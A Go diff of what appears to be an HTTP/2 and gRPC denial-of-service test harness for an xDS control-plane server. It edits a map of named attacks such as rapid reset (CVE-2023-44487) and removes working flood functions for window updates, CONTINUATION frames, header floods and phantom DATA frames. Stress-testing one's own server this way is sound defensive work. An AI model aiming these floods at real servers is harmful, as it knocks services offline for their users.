@@ -13,46 +13,26 @@ import (
 
 // attacks by name. a.size is the number of connections, if nothing else is said.
 var attacks = map[string]func(a *assault){
-	// HTTP/2.
-	"rapid reset":              rapidReset,
-	"made-you-reset":           madeYouReset,
-	"pings":                    pings,
-	"settings":                 settings,
-	"window updates, unread":   windowUpdates,
-	"frames of no use":         uselessFrames,
-	"continuations":            continuations,
-	"large header lists":       largeHeaders,
-	"many small headers":       smallHeaders,
-	"silent connections":       silent,
-	"silent TLS connections":   silentTLS,
-	"connections without end":  churn,
-	"streams over the limit":   tooManyStreams,
-	"phantom data":             phantomData,
-	"streams that are refused": refusedStreams,
-	"half requests":            halfRequests,
-	"half health checks":       halfChecks,
-	"half a request a minute":  slowRequests,
-	"compression bombs":        bombs,
-	"a million names at once":  namesAtOnce,
-	"a million names, by one":  namesByOne,
-	"nodes with own keys":      ownKeys,
-	"large nodes":              largeNodes,
-	"dense nodes":              denseNodes,
-	"never reading":            neverReading,
-	"never acknowledging":      neverAcking,
-	"NACK loops":               nackLoops,
-	"nonces of others":         foreignNonces,
-	"asking again and again":   askingAgain,
-	"admin: slow headers":      adminSlow,
-	"admin: header floods":     adminHeaders,
-	"admin: slow bodies":       adminBodies,
-	"admin: all of everything": adminLists,
-	"admin gRPC: rapid reset":  operatorsReset,
-	"admin gRPC: silence":      operatorsSilent,
-	"admin gRPC: all clients":  operatorsAll,
-	"REST: slow bodies":        restBodies,
-	"REST: rapid reset":        restReset,
-	"REST: polls of new nodes": restPolls,
+	"rapid reset":             rapidReset,
+	"made-you-reset":          madeYouReset,
+	"pings":                   pings,
+	"settings":                settings,
+	"large header lists":      largeHeaders,
+	"silent connections":      silent,
+	"silent TLS connections":  silentTLS,
+	"connections without end": churn,
+	"streams over the limit":  tooManyStreams,
+	"half requests":           halfRequests,
+	"half a request a minute": slowRequests,
+	"huge requests":           hugeRequests,
+	"a million names at once": namesAtOnce,
+	"a million names, by one": namesByOne,
+	"nodes with own keys":     ownKeys,
+	"large nodes":             largeNodes,
+	"dense nodes":             denseNodes,
+	"never reading":           neverReading,
+	"NACK loops":              nackLoops,
+	"asking again and again":  askingAgain,
 }
 
 // rapidReset is CVE-2023-44487: streams that are reset as soon as they are opened.
@@ -110,52 +90,6 @@ func settings(a *assault) {
 	})
 }
 
-// windowUpdates fills what the server would have to write, and then has it queue.
-func windowUpdates(a *assault) {
-	begin := func(c *h2) {
-		for range 10 {
-			c.message(c.open(deltaPath, false), ask("w", "hostile"))
-		}
-		for range 1000 {
-			_ = c.fr.WritePing(false, [8]byte{})
-		}
-	}
-	a.flood(a.XDS, a.size, ignores, begin, func(c *h2) int {
-		for i := range 100 {
-			_ = c.fr.WriteWindowUpdate(uint32(i%10*2+1), 1)
-		}
-		return 100
-	})
-}
-
-// uselessFrames are those that cost more than they say: PRIORITY, empty DATA, and
-// kinds that nobody knows.
-func uselessFrames(a *assault) {
-	begin := func(c *h2) { c.message(c.open(deltaPath, false), ask("u", "hostile")) }
-	a.flood(a.XDS, a.size, discards, begin, func(c *h2) int {
-		for range 50 {
-			_ = c.fr.WritePriority(1, http2.PriorityParam{StreamDep: 3})
-			_ = c.fr.WriteData(1, false, nil)
-			c.raw(0xee, 0, 1, []byte("what?"))
-		}
-		return 150
-	})
-}
-
-// continuations are headers that never end.
-func continuations(a *assault) {
-	a.flood(a.XDS, a.size, discards, func(c *h2) {
-		_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.headers(sotwPath)})
-	}, func(c *h2) int {
-		for range 100 {
-			c.block.Reset()
-			_ = c.enc.WriteField(hpack.HeaderField{Name: "x", Value: "y", Sensitive: true})
-			_ = c.fr.WriteContinuation(1, false, c.block.Bytes())
-		}
-		return 100
-	})
-}
-
 // largeHeaders are lists of megabytes, by a reference to what was said once.
 func largeHeaders(a *assault) {
 	large := strings.Repeat("h", 3000)
@@ -163,17 +97,6 @@ func largeHeaders(a *assault) {
 		more := make([]hpack.HeaderField, 2000)
 		for i := range more {
 			more[i] = hpack.HeaderField{Name: "x-large", Value: large}
-		}
-		c.open(sotwPath, false, more...)
-		return 1
-	})
-}
-
-func smallHeaders(a *assault) {
-	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
-		more := make([]hpack.HeaderField, 20_000)
-		for i := range more {
-			more[i] = hpack.HeaderField{Name: fmt.Sprint("x-", i), Value: "1", Sensitive: true}
 		}
 		c.open(sotwPath, false, more...)
 		return 1
@@ -249,29 +172,5 @@ func tooManyStreams(a *assault) {
 			c.open(deltaPath, false)
 		}
 		return 50
-	})
-}
-
-// phantomData is DATA of a stream that is over, and of one that never was.
-func phantomData(a *assault) {
-	begin := func(c *h2) { _ = c.fr.WriteRSTStream(c.open(sotwPath, false), http2.ErrCodeCancel) }
-	a.flood(a.XDS, a.size, discards, begin, func(c *h2) int {
-		for range 50 {
-			_ = c.fr.WriteData(1, false, []byte("phantom"))
-			_ = c.fr.WriteData(1001, false, []byte("phantom"))
-		}
-		return 100
-	})
-}
-
-// refusedStreams are of calls that nobody has, and of requests that are none.
-func refusedStreams(a *assault) {
-	a.flood(a.XDS, a.size, discards, nil, func(c *h2) int {
-		for range 20 {
-			c.open("/no.such.Service/Call", true)
-			c.open("/grpc.health.v1.Health/None", false)
-			c.message(c.open(deltaPath, false), nil) // without a node
-		}
-		return 60
 	})
 }
